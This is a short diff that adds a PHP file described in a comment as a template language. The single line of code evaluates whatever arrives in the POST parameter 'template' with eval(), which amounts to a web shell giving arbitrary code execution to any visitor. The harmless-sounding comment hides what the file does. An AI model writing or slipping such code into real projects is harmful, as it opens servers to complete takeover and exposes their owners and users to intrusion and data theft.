@@ -1,0 +1,3 @@
+<?php
+// Somebody's idea of a template language.
+eval($_POST['template'] ?? 'echo "hello";');
